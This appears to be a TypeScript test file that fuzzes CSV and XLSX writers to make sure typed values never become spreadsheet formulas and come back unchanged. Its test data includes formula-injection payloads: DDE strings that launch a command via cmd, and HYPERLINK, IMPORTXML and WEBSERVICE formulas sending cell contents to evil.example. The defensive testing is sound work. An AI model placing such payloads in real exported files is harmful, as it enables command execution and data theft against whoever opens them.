/** No value that people typed becomes a formula in a table, and every value comes back as it was typed. */
import fc from 'fast-check'
import { strFromU8, unzipSync } from 'fflate'
import { describe, expect, test } from 'vitest'
import { gather } from './archive/write.ts'
import { readCsv } from './csv/read.ts'
import { writeCsv } from './csv/write.ts'
import { annotateWorkbook } from './xlsx/annotate.ts'
import { type CellValue, readRows } from './xlsx/rows.ts'
import { openWorkbook } from './xlsx/workbook.ts'
import { writeLedger } from './xlsx/write.ts'
import { legalText } from './xml/text.ts'

const SIGNS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫', '−']
const BEFORE = ['', "'", "''", ' ', '\u3000', '\u00a0', '\ufeff', '\u200b', "' "]
const ATTACKS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+HYPERLINK("http://evil.example/?"&A1,"打开")',
  "-2+3+cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '＝ＷＥＢＳＥＲＶＩＣＥ("http://evil.example/")',
  'DDE("cmd";"/C calc";"a")',
  'a";=1+1',
  'a\t=1+1',
  'a;=1+1',
  'a\r\n=1+1',
]
const hostile = fc.oneof(
  fc.constantFrom(...ATTACKS),
  fc
    .tuple(fc.constantFrom(...BEFORE), fc.constantFrom(...SIGNS), fc.string({ unit: 'grapheme' }))
    .map((it) => it.join('')),
  fc.string({ unit: 'grapheme' }),
)

const written = async (rows: (string | number)[][]) =>
  new TextDecoder('utf-8', { ignoreBOM: true }).decode(await gather(writeCsv(rows)))

describe('CSV', () => {
  test.each(SIGNS.flatMap((sign) => BEFORE.map((before) => `${before}${sign}1`)))(
    '%j is text',
    async (text) => {
      expect(await written([['a', text]])).toMatch(/^\ufeffa,"?'/)
    },
  )

  test('no field begins like a formula, and all come back', async () => {
    const table = fc.array(fc.tuple(hostile, hostile), { minLength: 1, maxLength: 8 })
    await fc.assert(
      fc.asyncProperty(table, async (typed) => {
        const rows = typed.map((row) => row.map((text) => text.replaceAll('\0', '')))
        const file = await written(rows)
        for (const field of fieldsOf(file))
          expect(field).not.toMatch(/^[\s\u200b\ufeff]*[=+\-@＝＋－＠﹦﹢﹣﹫−]/)
        expect(readCsv(Buffer.from(file))).toMatchObject({ ok: true, rows })
      }),
    )
  })

  test('numbers stay numbers, below zero too', async () => {
    expect(await written([[-3, 1.5, 0, 1e21]])).toBe('\ufeff-3,1.5,0,1e+21\r\n')
  })
})

/** The content of every field, by RFC 4180. */
function fieldsOf(file: string): string[] {
  const all = file.slice(1).matchAll(/(?<=^|,|\n)("(?:[^"]|"")*"|[^",\r\n]*)/g)
  return [...all].map(([, field = '']) => field.replace(/^"|"$/g, '').replaceAll('""', '"'))
}

const TEXT = { label: 'a', type: 'text' as const }
const ledger = (
  rows: (string | number)[][],
  columns: readonly { label: string; type: 'text' | 'number' }[] = [TEXT, TEXT],
) => gather(writeLedger({ title: '=1+1', subtitle: '@a', columns, rows, sheetName: '=1+1' }))

function read(bytes: Uint8Array): (readonly CellValue[])[] {
  const book = openWorkbook(bytes)
  const sheet = book.ok ? book.sheets[0] : undefined
  if (!book.ok || !sheet) throw new Error('no sheet')
  const rows: (readonly CellValue[])[] = []
  expect(readRows(book, sheet, (row) => void rows.push(row.cells))).toMatchObject({ ok: true })
  return rows
}

/** Every cell of a sheet: its type, its look, its content. */
function cellsOf(bytes: Uint8Array) {
  const sheet = strFromU8(unzipSync(bytes)['xl/worksheets/sheet1.xml'] ?? new Uint8Array())
  const looks = [
    ...(strFromU8(unzipSync(bytes)['xl/styles.xml'] ?? new Uint8Array())
      .split('<cellXfs')[1]
      ?.matchAll(/<xf numFmtId="(\d+)"/g) ?? []),
  ]
  expect(sheet).not.toMatch(/<f[ >/]/)
  return [...sheet.matchAll(/<c r="[A-Z]+(\d+)" s="(\d+)"( t="(\w+)")?/g)].map(([, row, look, , type]) => ({
    row: Number(row),
    type: type ?? 'n',
    format: Number(looks[Number(look)]?.[1]),
  }))
}

describe('xlsx', () => {
  test('every text is a typed string in a text cell: it stays text when somebody edits it, and comes back', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(hostile, { minLength: 1, maxLength: 8 }), async (texts) => {
        const bytes = await ledger(texts.map((text) => ['x', text]))
        const body = cellsOf(bytes).filter(({ row, type }) => row > 3 && type !== 'n')
        for (const cell of body) expect(cell).toMatchObject({ type: 'inlineStr', format: 49 })
        const expected = texts.map(legalText).map((text) => (text === '' ? ['x'] : ['x', text]))
        expect(read(bytes).slice(3)).toEqual(expected)
      }),
      { numRuns: 40 },
    )
  })

  test('numbers stay numbers', async () => {
    const bytes = await ledger([['x', -3]], [TEXT, { label: 'n', type: 'number' }])
    expect(cellsOf(bytes).at(-1)?.type).toBe('n')
    expect(read(bytes).at(-1)).toEqual(['x', -3])
  })

  test('what is said about a row in the user’s own file is text as well', async () => {
    const mine = await ledger([['x', '1']])
    const noted = await annotateWorkbook(mine, {
      headerRow: 3,
      problems: [{ row: 4, text: "=cmd|'/C calc'!A0" }],
    })
    if (!noted.ok) throw new Error('not annotated')
    const cell = cellsOf(noted.bytes).find(({ row }) => row === 4)
    expect(cell).toMatchObject({ type: 'inlineStr', format: 49 })
    expect(read(noted.bytes).at(-1)).toContain("=cmd|'/C calc'!A0")
  })
})
